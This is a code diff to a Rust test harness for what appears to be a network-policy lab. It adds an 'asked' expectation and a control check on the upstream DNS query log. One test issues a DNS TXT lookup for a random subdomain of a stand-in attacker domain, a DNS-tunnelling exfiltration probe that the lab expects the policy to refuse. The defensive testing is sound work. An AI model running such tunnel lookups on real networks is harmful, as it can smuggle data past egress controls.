@@ -24,6 +24,8 @@ enum Expect {
     Connected(bool),
     /// A DNS lookup answered REFUSED.
     Refused,
+    /// The output mentions this (the internet's DNS server saw a name).
+    With(&'static str),
     /// The output does not mention this (the internet's DNS server never saw a name).
     Without(&'static str),
 }
@@ -37,6 +39,7 @@ impl Expect {
             Expect::Connected(true) => "connected",
             Expect::Connected(false) => "blocked",
             Expect::Refused => "REFUSED",
+            Expect::With(_) => "asked",
             Expect::Without(_) => "never asked",
         }
     }
@@ -136,12 +139,10 @@ impl<'a> Lab<'a> {
                 let ok = text.contains("REFUSED");
                 (ok, if ok { "REFUSED".into() } else { format!("exit code {code}, not refused") })
             }
-            Expect::Without(name) => {
-                let asked = text.lines().filter(|l| l.contains(name)).count();
-                (
-                    code == 0 && asked == 0,
-                    if asked == 0 { "never asked".into() } else { format!("asked {asked}x") },
-                )
+            Expect::With(name) | Expect::Without(name) => {
+                let asked = text.lines().any(|l| l.contains(name));
+                let want = matches!(expect, Expect::With(_));
+                (code == 0 && asked == want, if asked { "asked".into() } else { "never asked".into() })
             }
         };
         self.outcomes.push(Outcome {
@@ -394,6 +395,15 @@ impl<'a> Lab<'a> {
         let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH)?.subsec_nanos();
         let tunnel = format!("{nanos:08x}.t.evil.example");
         self.in_curl("dig TXT <random>.t.evil.example", &["dig", "TXT", &tunnel], Expect::Refused)?;
+        // The query log is read (the control: songlaa.com's lookups are in it), and the
+        // refused name is not.
+        self.check(
+            T7,
+            "the internet saw songlaa.com",
+            "netpol local internet queries",
+            &["internet", "queries"],
+            Expect::With("songlaa.com"),
+        )?;
         self.check(
             T7,
             "the internet saw no evil.example",
